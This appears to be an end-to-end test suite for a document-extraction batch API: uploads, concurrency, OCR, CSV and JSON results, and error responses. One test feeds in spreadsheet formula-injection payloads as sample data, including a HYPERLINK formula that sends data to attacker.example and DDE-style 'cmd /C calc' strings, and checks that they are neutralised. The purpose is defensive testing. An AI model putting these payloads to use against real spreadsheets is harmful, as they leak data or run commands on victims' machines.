import assert from "node:assert/strict";
import { setTimeout as sleep } from "node:timers/promises";
import { after, before, beforeEach, describe, it } from "node:test";
import { startDocbatch, type Docbatch } from "../support/docbatchHost.js";
import { makeCorruptPdf, makeDocx, makePlainText, makeTextImage, makeTextPdf, PLAIN_STRUCTURED_TEXT } from "../support/documents.js";
import { startFakeOpenAiUpstream, type FakeOpenAiUpstream } from "../support/fakeOpenAiUpstream.js";
import { EXTRACTION_MODEL, extractionEnv, requestedSchema, statementsAnswer, uploadBatchHttp } from "./support.js";

const STATEMENTS_SCHEMA = '{"statements":[{"date":"date","customer":"string","total":"number"}]}';
const TABLE_PREFIX = "uploadsE2e";
const MARKERS = ["Aldebaran", "ZEBRA", PLAIN_STRUCTURED_TEXT.title, "Telescope"];

let fake: FakeOpenAiUpstream;
let docbatch: Docbatch;
let http: ReturnType<typeof uploadBatchHttp>;

before(async () => {
  fake = await startFakeOpenAiUpstream({ models: [EXTRACTION_MODEL] });
  docbatch = await startDocbatch({
    checkOpenApi: true,
    env: {
      ...extractionEnv(fake),
      DOCBATCH_UPLOAD_MAX_DOCUMENT_BYTES: String(2 * 1024 * 1024),
      DOCBATCH_TABLE_PREFIX: TABLE_PREFIX,
    },
  });
  http = uploadBatchHttp(docbatch);
});
after(async () => {
  await docbatch?.close();
  await fake?.close();
});
beforeEach(() => fake.reset());

async function mixedDocuments() {
  const pdf = await makeTextPdf([{ blocks: [{ lines: ["Statement for Aldebaran Ltd", "Total due 10"] }] }]);
  const png = await makeTextImage("png", [["STATEMENT ZEBRA", "TOTAL 11"]], { fontSizePt: 28 });
  return [
    { bytes: pdf.bytes, name: "aldebaran.pdf", type: "application/pdf" },
    { bytes: png.bytes, name: "zebra.png", type: "image/png" },
    { bytes: await makeDocx(), name: "manual.docx", type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
    { bytes: makeCorruptPdf(), name: "broken.pdf", type: "application/pdf" },
    { bytes: makePlainText({ title: "Telescope ledger", sections: [{ heading: "Totals", paragraphs: ["Customer Telescope owes 13."] }] }), name: "ledger.txt", type: "text/plain" },
  ];
}

describe("DocuDevs upload batches over raw HTTP", () => {
  it("extracts PDF, PNG (OCR), DOCX and text with the example-shaped schema; results follow upload order; a corrupt file is an error string", async () => {
    fake.script({ answer: statementsAnswer(MARKERS), match: (request) => request.endpoint === "/chat/completions" });
    const { jobGuid, maxConcurrency } = await http.create({ maxConcurrency: 2, orgId: "placeholder", mimeType: "application/pdf" });
    assert.equal(maxConcurrency, 2);
    const documents = await mixedDocuments();
    for (const [i, document] of documents.entries()) {
      const uploaded = await http.upload(jobGuid, document);
      assert.equal(uploaded.status, 200, uploaded.text);
      assert.deepEqual(uploaded.body, { jobGuid, index: i, totalDocuments: i + 1 });
    }
    const pending = await http.status(jobGuid);
    assert.equal(pending.body.status, "PENDING");
    assert.equal(pending.body.totalDocs, documents.length);

    const processed = await http.process(jobGuid, { prompt: "Extract the statements", schema: STATEMENTS_SCHEMA, mimeType: "application/pdf", barcodes: false, describeFigures: false, orgId: "placeholder" });
    assert.equal(processed.status, 200, processed.text);
    assert.deepEqual(processed.body, { jobGuid, maxConcurrency: 2 });

    const job = await http.waitUntilDone(jobGuid);
    assert.equal(job.status, "COMPLETED");

    assert.equal(job.totalDocs, 5);
    assert.equal(job.completedDocs, 4);
    assert.equal(job.failedDocs, 1);
    assert.equal(job.inProgressDocs, 0);
    assert.ok(job.tokenCount > 0, "token counts are summed from the upstream's usage");

    const results = await http.call("GET", `/job/result/${jobGuid}/json`);
    assert.equal(results.status, 200);
    assert.equal(results.body.length, 5);
    const customers = results.body.map((result: any) => (typeof result === "string" ? "error" : result.statements[0].customer));
    assert.deepEqual(customers, ["Aldebaran", "ZEBRA", PLAIN_STRUCTURED_TEXT.title, "error", "Telescope"]);
    assert.match(results.body[3], /^Error: broken\.pdf: /);
    assert.deepEqual(results.body[0].statements[0], { date: "2024-01-31", customer: "Aldebaran", total: 10 });

    // The model was asked for JSON in the JSON Schema made from the example.
    const schema = requestedSchema({ body: fake.requests[0]!.body } as never);
    assert.equal(schema.type, "object");
    assert.equal(schema.properties.statements.type, "array");
    assert.deepEqual(Object.keys(schema.properties.statements.items.properties).sort(), ["customer", "date", "total"]);
    assert.ok(fake.maxInFlight <= 2, `at most maxConcurrency upstream calls at once (saw ${fake.maxInFlight})`);

    // Source locations: where each extracted string value is in the document.
    const pdfSources = (await http.call("GET", `/job/result/${jobGuid}/source-locations?batchIndex=0`)).body;
    const customer = pdfSources["/statements/0/customer"];
    assert.equal(customer.page, 1);
    assert.match(customer.text, /Aldebaran/);
    assert.equal(customer.polygon.length, 8);
    assert.equal(customer.unit, "inch");
    assert.ok(customer.bbox[0] < customer.bbox[2] && customer.bbox[1] < customer.bbox[3]);
    assert.equal(pdfSources["/statements/0/date"], undefined, "a value that is not in the text has no location");
    const allSources = (await http.call("GET", `/job/result/${jobGuid}/source-locations`)).body;
    assert.equal(allSources.length, 5);
    assert.equal(allSources[3], null, "the corrupt file has none");
    assert.match(allSources[1]["/statements/0/customer"].text, /ZEBRA/, "OCR lines carry locations too");
    assert.equal((await http.call("GET", `/job/result/${jobGuid}/source-locations?batchIndex=9`)).status, 400);

    const unsuffixed = await http.call("GET", `/job/result/${jobGuid}`);
    assert.deepEqual(unsuffixed.body, results.body);
    const csv = await http.call("GET", `/job/result/${jobGuid}/csv`);
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get("content-type") ?? "", /^text\/csv/);
    const lines = csv.text.trim().split("\r\n");
    assert.equal(lines.length, 6);
    assert.equal(lines[0], "index,error,statements");
    assert.match(lines[4]!, /^3,broken\.pdf: /);

    const listed = await http.call("GET", "/job/list?page=0&size=50");
    assert.equal(listed.status, 200);
    assert.ok(listed.body.content.some((entry: any) => entry.guid === jobGuid && entry.status === "COMPLETED"));

    const stored = async () => {
      const names: string[] = [];
      const container = docbatch.blobService.getContainerClient(`${TABLE_PREFIX.toLowerCase()}-uploads`);
      for await (const blob of container.listBlobsFlat({ prefix: `${jobGuid}/` })) names.push(blob.name.split("/")[1]!);
      return [...new Set(names)].sort();
    };
    assert.deepEqual(await stored(), ["documents", "results", "sources", "staged"], "uploads and results live in docbatch's own storage");
    const deleted = await http.call("DELETE", `/job/${jobGuid}`);
    assert.deepEqual(deleted.body, { jobsDeleted: 1, errors: [] });
    assert.equal((await http.status(jobGuid)).status, 404);
    await docbatch.host.fireTimer("purgeExpiredBatches");
    assert.deepEqual(await stored(), [], "the purge removes the batch's uploads and results");
  });

  it("keeps at most maxConcurrency documents at the upstream at once", async () => {
    fake.script({ answer: (request) => ({ ...statementsAnswer(MARKERS)(request), delayMs: 100 }) });
    const { jobGuid } = await http.create({ maxConcurrency: 2 });
    for (let i = 0; i < 6; i++) await http.upload(jobGuid, { bytes: makePlainText({ title: `Telescope ${i}`, sections: [] }), name: `t${i}.txt`, type: "text/plain" });
    await http.process(jobGuid, { prompt: "Extract", schema: STATEMENTS_SCHEMA });
    const job = await http.waitUntilDone(jobGuid);
    assert.equal(job.completedDocs, 6);
    assert.equal(fake.requests.length, 6);
    assert.ok(fake.maxInFlight <= 2, `saw ${fake.maxInFlight} calls at once`);
  });

  it("reports inProgressDocs as the documents really running, not an estimate", async () => {
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    // Only the "slow" document waits at the upstream; the others are answered at once.
    fake.script({ answer: async (request) => (request.promptText.includes("slow") && (await held), statementsAnswer(MARKERS)(request)) });
    const { jobGuid } = await http.create({ maxConcurrency: 3 });
    const titles = ["Telescope fast", "Telescope slow", "Telescope fast again", "Telescope last", "Telescope final"];
    for (const [i, title] of titles.entries()) await http.upload(jobGuid, { bytes: makePlainText({ title, sections: [] }), name: `d${i}.txt`, type: "text/plain" });
    assert.equal((await http.status(jobGuid)).body.inProgressDocs, 0, "nothing runs before process");
    await http.process(jobGuid, { prompt: "Extract", schema: STATEMENTS_SCHEMA });
    // Wait until the slow document is held and its batch-mates have finished, as far as they can.
    let job: any;
    for (const deadline = Date.now() + 60_000; ; await sleep(100)) {
      job = (await http.status(jobGuid)).body;
      if (fake.inFlight === 1 && job.completedDocs >= 1 && job.inProgressDocs === fake.inFlight) break;
      if (Date.now() > deadline) throw new Error(`never settled: ${JSON.stringify(job)}, ${fake.inFlight} upstream calls held`);
    }
    assert.equal(job.status, "PROCESSING");
    // The engine runs a batch's documents in waves of maxConcurrency: the next wave waits for the
    // held one, so an estimate of min(remaining, maxConcurrency) would say 3 here.
    assert.equal(job.inProgressDocs, 1, "only the held document runs");
    // updatedAt moves with the documents, not only when the batch row changes: it is at least
    // the time the last finished document settled.
    const settled = await fetch(`${docbatch.host.url}/dashboard/api/batches/uploadBatch/${jobGuid}/items?status=succeeded`, { headers: { "api-key": docbatch.apiKey } });
    const lastSettled = Math.max(...((await settled.json()) as { items: { updatedAt: string }[] }).items.map((item) => Date.parse(item.updatedAt)));
    assert.ok(Date.parse(job.updatedAt) >= lastSettled, `updatedAt ${job.updatedAt} is not before the last document settled (${new Date(lastSettled).toISOString()})`);
    assert.ok(Date.parse(job.updatedAt) > Date.parse(job.createdAt));
    release();
    const done = await http.waitUntilDone(jobGuid);
    assert.equal(done.completedDocs, 5);
    assert.equal(done.inProgressDocs, 0);
  });

  it("answers each document's text as Markdown without an LLM call in OCR mode", async () => {
    const { jobGuid } = await http.create();
    await http.upload(jobGuid, { bytes: await makeDocx(), name: "manual.docx", type: "application/octet-stream" });
    await http.upload(jobGuid, { bytes: makePlainText(), name: "manual.txt", type: "text/plain" });
    await http.process(jobGuid, { extractionMode: "OCR", prompt: "ignored", schema: STATEMENTS_SCHEMA });
    const job = await http.waitUntilDone(jobGuid);
    assert.equal(job.status, "COMPLETED");
    assert.equal(job.maxConcurrency, 3, "DocuDevs' default");
    const results = (await http.call("GET", `/job/result/${jobGuid}/json`)).body;
    assert.equal(results.length, 2);
    for (const result of results) {
      assert.equal(typeof result, "string");
      assert.ok(result.includes(PLAIN_STRUCTURED_TEXT.title));
    }
    assert.match(results[0], /^# Shipping Manual/m, "DOCX headings become Markdown headings");
    assert.equal(fake.requests.length, 0);
  });

  it("writes document text that looks like a spreadsheet formula into the CSV as text ('-prefixed)", async () => {
    const { jobGuid } = await http.create();
    const texts = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "harmless = text"];
    for (const [i, text] of texts.entries()) await http.upload(jobGuid, { bytes: Buffer.from(text), name: `f${i}.txt`, type: "text/plain" });
    await http.process(jobGuid, { extractionMode: "OCR" });
    assert.equal((await http.waitUntilDone(jobGuid)).status, "COMPLETED");
    const results: string[] = (await http.call("GET", `/job/result/${jobGuid}/json`)).body;
    const csv = await http.call("GET", `/job/result/${jobGuid}/csv`);
    assert.equal(csv.status, 200);
    const [header, ...rows] = parseCsv(csv.text);
    const textColumn = header!.indexOf("text");
    assert.equal(rows.length, texts.length);
    for (const [i, row] of rows.entries()) {
      const written = row[textColumn]!;
      if (/^[=+\-@\t\r]/.test(results[i]!)) assert.equal(written, `'${results[i]}`, `document ${i}: a formula-like cell starts with '`);
      else assert.equal(written, results[i], `document ${i}: other text is written as it is`);
      assert.doesNotMatch(written, /^[=+\-@\t\r]/);
    }
    assert.match(rows[0]![textColumn]!, /^'=HYPERLINK\(/);
  });
});

/** RFC 4180 fields, as a spreadsheet reads them (quotes removed, "" unescaped). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  return rows;
}

describe("DocuDevs upload batches: reading and output limits", () => {
  it("ocr PREMIUM without Document Intelligence reads with the offline layout reader (headings as Markdown)", async () => {
    const pdf = await makeTextPdf([{ blocks: [{ lines: ["Quarterly Ledger"], font: "Helvetica-Bold", size: 24, top: 1.2 }, { lines: ["Customer Telescope owes 13.", "Paid on time."], size: 11, top: 2 }] }]);
    const { jobGuid } = await http.create();
    await http.upload(jobGuid, { bytes: pdf.bytes, name: "ledger.pdf", type: "application/pdf" });
    assert.equal((await http.process(jobGuid, { extractionMode: "OCR", ocr: "PREMIUM" })).status, 200);
    assert.equal((await http.waitUntilDone(jobGuid)).completedDocs, 1);
    const [markdown] = (await http.call("GET", `/job/result/${jobGuid}/json`)).body;
    assert.match(markdown, /^# Quarterly Ledger/m, "the layout reader marks the title");
    assert.match(markdown, /Telescope owes 13/);
  });

  it("sends max_completion_tokens 1024 by default and fails a document whose answer is cut off there, naming the setting", async () => {
    const statements = Array.from({ length: 300 }, (_, i) => ({ date: "2024-01-31", customer: `Customer number ${i}`, total: i }));
    fake.script({ answer: { content: JSON.stringify({ statements }) } });
    const { jobGuid } = await http.create();
    await http.upload(jobGuid, { bytes: makePlainText(), name: "long.txt", type: "text/plain" });
    await http.process(jobGuid, { prompt: "Extract", schema: STATEMENTS_SCHEMA });
    const job = await http.waitUntilDone(jobGuid);
    assert.equal(job.failedDocs, 1);
    assert.equal(fake.requests.length, 1, "no repair: it would be cut off at the same limit");
    assert.equal(fake.requests[0]!.body.max_completion_tokens, 1024);
    const [result] = (await http.call("GET", `/job/result/${jobGuid}/json`)).body;
    assert.match(result, /^Error: long\.txt: the model's answer was cut off at its output limit of 1024 tokens; raise DOCBATCH_EXTRACTION_MAX_OUTPUT_TOKENS/);
  });
});

describe("DocuDevs upload-batch errors", () => {
  const unknown = "00000000-0000-4000-8000-000000000000";

  it("answers unknown jobs with 404 in DocuDevs' error format", async () => {
    for (const [method, path] of [["GET", `/job/status/${unknown}`], ["GET", `/job/result/${unknown}/json`], ["DELETE", `/job/${unknown}`], ["POST", `/document/batch/${unknown}/process`], ["GET", "/job/status/not-a-guid"]] as const) {
      const answer = await http.call(method, path, method === "POST" ? { prompt: "x" } : undefined);
      assert.equal(answer.status, 404, `${method} ${path}`);
      assert.deepEqual(Object.keys(answer.body).sort(), ["error", "message", "path", "status", "timestamp"]);
      assert.equal(answer.body.status, 404);
      assert.equal(answer.body.error, "Not Found");
      assert.equal(answer.body.path, path);
    }
    const upload = await http.upload(unknown, { bytes: makePlainText(), name: "a.txt", type: "text/plain" });
    assert.equal(upload.status, 404);
  });

  it("refuses requests without a valid key and accepts the bare key in Authorization", async () => {
    const anonymous = await fetch(`${docbatch.host.url}/job/list`);
    assert.equal(anonymous.status, 401);
    assert.equal((await anonymous.json()).status, 401);
    const bare = uploadBatchHttp(docbatch, docbatch.apiKey);
    assert.equal((await bare.call("GET", "/job/list")).status, 200);
    assert.equal((await uploadBatchHttp(docbatch, "Bearer wrong").call("GET", "/job/list")).status, 401);
  });

  it("refuses a missing document part, bad schemas and unsupported options with 400s that say what to fix", async () => {
    const { jobGuid } = await http.create();
    const form = new FormData();
    form.append("file", new Blob([Buffer.from(makePlainText())]), "a.txt");
    const missing = await http.call("POST", `/document/batch/${jobGuid}/upload`, form);
    assert.equal(missing.status, 400);
    assert.match(missing.body.message, /'document'/);

    const empty = await http.process(jobGuid, { prompt: "x" });
    assert.equal(empty.status, 400);
    assert.match(empty.body.message, /no documents/);

    await http.upload(jobGuid, { bytes: makePlainText(), name: "a.txt", type: "text/plain" });
    const badSchema = await http.process(jobGuid, { prompt: "x", schema: '{"statements": [' });
    assert.equal(badSchema.status, 400);
    assert.match(badSchema.body.message, /schema/i);
    const unsupported = await http.process(jobGuid, { prompt: "x", barcodes: true, describeFigures: true });
    assert.equal(unsupported.status, 400);
    assert.match(unsupported.body.message, /barcodes/);
    assert.match(unsupported.body.message, /describeFigures/);
    const notJson = await http.process(jobGuid, "{nope" as never);
    assert.equal(notJson.status, 400);
    const tooLarge = await http.upload(jobGuid, { bytes: new Uint8Array(3 * 1024 * 1024), name: "big.txt", type: "text/plain" });
    assert.equal(tooLarge.status, 413);
    assert.equal((await http.status(jobGuid)).body.totalDocs, 1, "refused uploads take no index");
  });

  it("refuses uploads after process, process twice, and DELETE while running (409, 409, 400)", async () => {
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    fake.script({ answer: async (request) => (await held, statementsAnswer(MARKERS)(request)) });
    const { jobGuid } = await http.create();
    await http.upload(jobGuid, { bytes: makePlainText(), name: "a.txt", type: "text/plain" });
    assert.equal((await http.process(jobGuid, { prompt: "x", schema: STATEMENTS_SCHEMA })).status, 200);
    const again = await http.process(jobGuid, { prompt: "x", schema: STATEMENTS_SCHEMA });
    assert.equal(again.status, 409);
    assert.equal(again.body.error, "Conflict");
    const late = await http.upload(jobGuid, { bytes: makePlainText(), name: "b.txt", type: "text/plain" });
    assert.equal(late.status, 409);
    const running = await http.call("DELETE", `/job/${jobGuid}`);
    assert.equal(running.status, 400);
    assert.match(running.body.message, /PROCESSING/);
    release();
    assert.equal((await http.waitUntilDone(jobGuid)).status, "COMPLETED");
    assert.equal((await http.call("DELETE", `/job/${jobGuid}`)).status, 200);
  });

  it("fails a document whose answer never matches the schema after one repair, with a clear message", async () => {
    fake.script({ answer: { content: JSON.stringify({ statements: "not a list" }) } });
    const { jobGuid } = await http.create();
    await http.upload(jobGuid, { bytes: makePlainText(), name: "a.txt", type: "text/plain" });
    await http.process(jobGuid, { prompt: "x", schema: STATEMENTS_SCHEMA });
    const job = await http.waitUntilDone(jobGuid);
    assert.equal(job.status, "COMPLETED");
    assert.equal(job.failedDocs, 1);
    assert.equal(fake.requests.length, 2, "one repair attempt");
    const [result] = (await http.call("GET", `/job/result/${jobGuid}/json`)).body;
    assert.match(result, /^Error: a\.txt: extraction failed after one repair: .*statements/);
  });
});
